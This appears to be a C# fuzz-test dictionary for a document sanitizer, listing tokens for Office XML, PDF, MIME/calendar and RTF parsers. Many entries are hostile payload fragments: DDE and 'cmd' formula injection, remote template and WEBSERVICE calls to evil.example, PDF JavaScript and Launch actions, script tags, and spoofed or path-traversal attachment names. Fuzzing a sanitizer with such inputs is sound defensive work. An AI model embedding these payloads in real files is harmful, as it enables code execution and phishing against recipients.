namespace Sekisho.Tests.Sanitizing.Fuzz;

/// <summary>Words of each grammar, the dangerous ones first of all; Latin-1.</summary>
internal static class Dictionaries
{
    internal static readonly string[] Xml =
    [
        "<!DOCTYPE x [<!ENTITY a \"b\">]>", "&a;", "&#0;", "&#xD800;", "&#x1F600;", "<![CDATA[", "]]>", "<!--", "-->", "<?x y?>", "<a>", "</a>", "<a/>", "<", ">", "\"", "'", "&", " xmlns:w=\"urn:x\"", "\0", "\xEF\xBB\xBF",
        "<w:object/>", "<w:p>", "</w:p>", "<w:r><w:t>", "</w:t></w:r>", "<w:instrText>DDEAUTO c:\\x</w:instrText>", "<w:instrText> INCLUDEPICTURE \"http://evil.example/\" </w:instrText>", "<w:fldSimple w:instr=\"DDE a b\">", "<w:fldChar w:fldCharType=\"begin\"/>",
        "<w:fldChar w:fldCharType=\"separate\"/>", "<w:fldChar w:fldCharType=\"end\"/>", "<w:altChunk r:id=\"rId1\"/>", "<w:control w:name=\"x\"/>", "<w:dataBinding/>", "<w:hyperlink r:id=\"rId1\">", "<w:drawing>", "<w:pict>", "<v:shape>", "<v:imagedata r:id=\"rId1\"/>", "<o:OLEObject r:id=\"rId1\"/>",
        "<mc:AlternateContent>", "<mc:Choice Requires=\"x\">", "<mc:Fallback>", "</mc:Fallback></mc:AlternateContent>", "<a:hlinkClick r:id=\"rId1\" action=\"ppaction://program\"/>", "<a:blip r:embed=\"rId1\" r:link=\"rId2\"/>", "<p:oleObj/>", "<p:timing/>",
        "<f>WEBSERVICE(\"http://evil.example/\")</f>", "<f>cmd|'/c calc'!A0</f>", "<f>[1]S!A1</f>", "<f t=\"shared\" si=\"0\" ref=\"A1:B2\">A1</f>", "<f t=\"array\">SUM(A1)</f>", "<definedName name=\"_xlnm.Auto_Open\">A1</definedName>", "<c r=\"XFD1048576\"><v>1</v></c>", "<row r=\"1\">", "<oleObjects/>", "<externalReferences/>",
        "<script:event-listener xlink:href=\"x\"/>", "<office:scripts/>", "<draw:image xlink:href=\"http://evil.example/\"/>", "<draw:object xlink:href=\"./Object 1\"/>", "<text:section-source xlink:href=\"x\"/>", "<office:dde-source/>", "<text:p>", "</text:p>", "<table:table-cell table:formula=\"of:=DDE(1)\"/>", "<table:table-row table:number-rows-repeated=\"99999999\">",
        "<script>x</script>", "<img src=x onerror=y>", "<a href=\"javascript:x\">", "<style>@import 'x'</style>", "<svg onload=x>", "<foreignObject>", "<use href=\"#a\"/>", "<math>", "<template>", "<table>", "<select>", "<plaintext>", "<frameset>",
        "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject\" Target=\"x.bin\"/>", "<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/\" TargetMode=\"External\"/>",
        "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>", "<Default Extension=\"xml\" ContentType=\"application/vnd.ms-office.vbaProject\"/>", "../../x", "\xE2\x80\xAE", "\xED\xA0\x80", "\xFF",
    ];

    internal static readonly string[] Pdf =
    [
        "<<", ">>", "[", "]", "(", ")", "<", ">", "/", "%", "{", "}", " 1 0 R ", " 3 0 R ", " 0 0 R ", " 99999999999 0 R ", " 2147483647 0 R ", " 5 65536 R ", "null ", "true ", " 0 ", " -1 ", " 99999999999999999999 ", " 1e9 ", " .000001 ", " - ", " 0.0.0 ", "\nendobj\n", "\nstream\n", "\nendstream\n", "\n7 0 obj\n", "%%EOF\n",
        "/JS (x)", "/OpenAction<</S/JavaScript/JS(x)>>", "/AA<</O 1 0 R>>", "/S/Launch", "/Names 1 0 R", "/AcroForm<<>>", "/Kids[3 0 R 2 0 R]", "/Parent 3 0 R", "/Type/Page", "/Type/Pages", "/Type/Catalog", "/Count -5", "/MediaBox[0 0 0 0]", "/MediaBox[1e9 0 -1e9 5]", "/Rotate 91", "/UserUnit 1e9", "/Contents[4 0 R 4 0 R]",
        "/Filter/FlateDecode", "/Filter/LZWDecode", "/Filter/ASCII85Decode", "/Filter/ASCIIHexDecode", "/Filter/RunLengthDecode", "/Filter/DCTDecode", "/Filter/JPXDecode", "/Filter/CCITTFaxDecode", "/Filter/JBIG2Decode", "/Filter/Crypt", "/Filter[/A85/Fl]", "/DecodeParms<</Predictor 15/Columns 99999999/Colors 4/BitsPerComponent 16>>", "/DecodeParms<</Predictor 2>>", "/Length 0", "/Length 3 0 R",
        "/Type/Font", "/Subtype/Type0", "/Subtype/Type1", "/Subtype/Type3", "/Subtype/TrueType", "/Subtype/CIDFontType2", "/Encoding/Identity-H", "/Encoding/90ms-RKSJ-H", "/ToUnicode 4 0 R", "/DescendantFonts[5 0 R]", "/FontFile2 4 0 R", "/FontFile3 4 0 R", "/FontFile 4 0 R", "/W[1 2 3 4 [5]]", "/Widths[1 2", "/FirstChar -5", "/CIDToGIDMap 4 0 R", "/CharProcs<<>>",
        "/Subtype/Image", "/Subtype/Form", "/Width 99999", "/Height 0", "/BitsPerComponent 3", "/ColorSpace/DeviceN", "/ColorSpace[/Indexed/DeviceRGB 255 4 0 R]", "/ColorSpace[/Separation/x/DeviceRGB<</FunctionType 2/N 1>>]", "/ColorSpace[/ICCBased 4 0 R]", "/SMask 4 0 R", "/Mask[0 0]", "/Decode[1 0]", "/ShadingType 7", "/FunctionType 4", "/FunctionType 0", "/FunctionType 3", "/PatternType 1", "/BBox[0 0 1 1]", "/Matrix[1 0 0 1 0 0]",
        " q ", " Q ", " BT ", " ET ", " BI ", " ID ", " EI ", " Do ", " /X1 Do ", " Tf ", " Tj ", " TJ ", " cm ", " re f ", " sh ", " gs ", " /a BDC ", " EMC ", " d0 ", " d1 ", " \" ", " ' ", " scn ", " /P1 scn ", " W n ", " BX ", " EX ", "/Outlines 3 0 R", "/First 3 0 R", "/Next 3 0 R", "/Dest[3 0 R/XYZ 1 1 1]", "/Annots[<</Subtype/Link/A<</S/URI/URI(file:///x)>>>>]", "/Encrypt 3 0 R", "/Extends 4 0 R", "/Type/ObjStm/N 99/First 9", "/Prev 0", "/OCGs[3 0 R]",
    ];

    internal static readonly string[] Mail =
    [
        "\r\n", "\n", "\r", " ", "\0", "From: \"a@b.jp\" <c@evil.example>\r\n", "Subject: =?ISO-2022-JP?B?GyRC?= =?UTF-8?Q?=0D=0ABcc:x?=\r\n", "Content-Type: multipart/mixed; boundary=\"a\"; boundary=b\r\n", "Content-Type: multipart/alternative; boundary*0=a; boundary*1=b\r\n", "Content-Type: text/html; charset=utf-7\r\n",
        "Content-Type: message/partial; id=1; number=1; total=2\r\n", "Content-Type: message/external-body; access-type=URL; URL=\"http://evil.example\"\r\n", "Content-Type: message/rfc822\r\n", "Content-Transfer-Encoding: base64\r\n", "Content-Transfer-Encoding: quoted-printable\r\n", "Content-Transfer-Encoding: x-uuencode\r\n", "Content-Disposition: attachment; filename*0*=utf-8''%e2%80%ae; filename*1=x.exe\r\n",
        "Content-Disposition: attachment; filename=\"..\\..\\a.exe\"\r\n", "--a\r\n", "--a--\r\n", "--=_1\r\n", "--=_1--\r\n", "begin 644 a.exe\r\n#0V%T\r\n`\r\nend\r\n", "<html><script>x</script></html>\r\n", "\x1B$B", "\x1B(B", "=\r\n", "=0D=0A", "====", "QQ==QQ==\r\n", "MIME-Version: 1.0\r\n", "Received: x\r\n", ".\r\n", "From x\r\n",
        "BEGIN:VEVENT\r\n", "END:VEVENT\r\n", "BEGIN:VALARM\r\n", "END:VALARM\r\n", "BEGIN:VCALENDAR\r\n", "END:VCALENDAR\r\n", "BEGIN:VCARD\r\n", "END:VCARD\r\n", "ATTACH;FMTTYPE=application/x:http://evil.example\r\n", "ATTACH;ENCODING=BASE64;VALUE=BINARY:TVo=\r\n", "RRULE:FREQ=SECONDLY;COUNT=999999999\r\n", "DTSTART;TZID=Asia/Tokyo:20261121T100000\r\n", "METHOD:REQUEST\r\n", "PHOTO;ENCODING=b;TYPE=PNG:iVBORw0KGgo=\r\n", "URL:http://evil.example\r\n", "X-A;B=\"c:d;e\":f\r\n", " folded\r\n", "N;ENCODING=QUOTED-PRINTABLE;CHARSET=SHIFT_JIS:=93=FA\r\n",
        "=1+1,", "\"", "\"\"", ",", "@SUM(1)\t", "\xEF\xBB\xBF", "\xFF\xFE", "\x82", "\xE2\x80\xAE",
    ];

    internal static readonly string[] Rtf =
    [
        "{", "}", "\\", "{\\*", "\\object", "\\objemb", "\\objupdate", "{\\*\\objdata 0105000002000000", "\\objclass Equation.3", "\\field", "{\\*\\fldinst DDEAUTO c:\\\\x}", "{\\*\\fldinst HYPERLINK \"file:///x\"}", "{\\*\\template http://evil.example}", "\\bin9999 ", "\\bin-1 ", "\\bin4 \0\0\0\0", "\\u-10180 ?", "\\uc0", "\\uc99999", "\\'", "\\'zz", "\\'82",
        "\\pict", "\\pngblip", "\\wmetafile8", "\\fs99999999999", "\\ansicpg932", "\\fonttbl", "{\\f0\\fcharset128 x;}", "\\htmlrtf", "\\fromhtml1", "{\\*\\htmltag <script>}", "\\v ", "\\trowd", "\\cell", "\\row", "\\par ", "\\rtf1", "\\\n", "\0", "{\\info{\\author x}}", "{\\*\\datastore 0102}", "{\\mhtmltag x}", "\\dn99999999999999999999 ",
    ];
}
